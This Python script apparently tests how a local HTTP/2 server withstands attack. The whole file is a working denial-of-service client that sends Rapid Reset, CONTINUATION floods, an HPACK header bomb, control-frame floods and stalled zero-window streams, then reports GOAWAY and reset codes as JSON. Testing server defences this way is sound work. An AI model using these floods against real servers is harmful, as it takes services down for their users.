# An HTTP/2 client that means ill: python-h2 reads and opens streams, hyperframe makes the frames that h2 would not send.
#
#     http2_attack.py PORT CA KIND COUNT [AUTHORITY [PATH]]
#
# Sends COUNT of what KIND says, as fast as it can, until the server ends the connection:
#
#     reset         CONNECT AUTHORITY and RST_STREAM at once (CVE-2023-44487)
#     continuation  CONTINUATION frames of a head that never ends (CVE-2024-27316)
#     head          a head of COUNT fields that all fit one entry of the table (a bomb of HPACK)
#     ping, settings, priority    such frames, whose answers nobody wants
#     empty         DATA frames without data
#     increment     WINDOW_UPDATE of the connection by the most there is
#     window        GET http://AUTHORITY/PATH on COUNT streams, and never takes a byte of the answers
#
# Prints one line of JSON: how many it sent, the code of GOAWAY (null without one), the codes of RST_STREAM, whether the
# server closed the connection.

import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

port, ca, kind, count, *rest = sys.argv[1:]
authority, path = (rest + ["a.test:443", "/"])[:2] if len(rest) < 2 else rest
CANCEL = 8
PATIENCE = 30


class Connection:
    def __init__(self):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection(("127.0.0.1", int(port))), server_hostname="localhost")
        self.socket.setblocking(False)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.goaway, self.closed, self.resets = None, False, []
        if kind == "window":
            self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        self.h2.initiate_connection()
        self.send()

    @property
    def is_over(self):
        return self.closed or self.goaway is not None

    def send(self, more=b""):
        data = memoryview(self.h2.data_to_send() + more)
        while data and not self.closed:
            try:
                data = data[self.socket.send(data) :]
            except ssl.SSLWantWriteError:
                select.select([], [self.socket], [], 1)
            except ssl.SSLWantReadError:
                self.receive(1)
            except OSError:
                self.receive(1)
                self.closed = True

    def receive(self, patience=0):
        if not self.socket.pending():
            select.select([self.socket], [], [], patience)
        while not self.closed:
            try:
                data = self.socket.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                # It knows nothing of what was sent behind its back.
                continue
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = int(event.error_code)
                if isinstance(event, h2.events.StreamReset):
                    self.resets.append(int(event.error_code))


connection = Connection()
connection.receive(5)
connection.send()
opened = 0


def open_stream(method, **pseudo):
    stream = connection.h2.get_next_available_stream_id()
    fields = [(":method", method), *((f":{name}", value) for name, value in pseudo.items())]
    connection.h2.send_headers(stream, fields, end_stream=method == "GET")
    return stream


def reset():
    connection.h2.reset_stream(open_stream("CONNECT", authority=authority), CANCEL)
    return b""


def window():
    open_stream("GET", scheme="http", authority=authority, path=path)
    return b""


def head():
    # ":method: GET" of the static table, one entry of 4,000 bytes, and that entry again and again.
    name, value = b"x", b"v" * 4000
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + b"\xa1\x1e" + value
    frame = HeadersFrame(1, data=b"\x82" + literal + b"\xbe" * (int(count) - 1))
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    return frame.serialize()


def raw(frame):
    return lambda: frame.serialize()


def continuation():
    return (HeadersFrame(1, data=b"\x82") if opened == 0 else ContinuationFrame(1, data=b"\x82")).serialize()


makers = {
    "reset": reset,
    "window": window,
    "head": head,
    "continuation": continuation,
    "ping": raw(PingFrame(0, opaque_data=b"12345678")),
    "settings": raw(SettingsFrame(0, settings={3: 100})),
    "priority": raw(PriorityFrame(1, depends_on=0, stream_weight=10)),
    "increment": raw(WindowUpdateFrame(0, window_increment=0x7FFFFFFF)),
}
if kind == "empty":
    stream = open_stream("CONNECT", authority=authority)
    makers[kind] = raw(DataFrame(stream))
    connection.send()
    connection.receive(1)

while opened < (1 if kind == "head" else int(count)) and not connection.is_over:
    frames = makers[kind]()
    opened += 1
    connection.send(frames)
    if opened % 20 == 0:
        connection.receive()

end = time.monotonic() + PATIENCE
while not connection.closed and time.monotonic() < end:
    if kind == "window" and len(connection.resets) == opened:
        break
    connection.receive(1)

print(
    json.dumps(
        {
            "sent": opened,
            "goaway": connection.goaway,
            "resets": connection.resets,
            "closed": connection.closed,
        }
    )
)
